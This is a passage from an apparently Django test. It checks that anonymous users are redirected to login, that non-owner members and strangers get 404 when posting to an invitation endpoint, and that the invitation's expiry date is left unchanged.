        client.force_login(person)
        answers[who] = client.post(url).status_code

    assert anonymous.status_code == 302 and anonymous.url.startswith(reverse("account_login"))
    assert answers == {"member": 404, "stranger": 404}
    invitation.refresh_from_db()
    assert invitation.expires_at == before
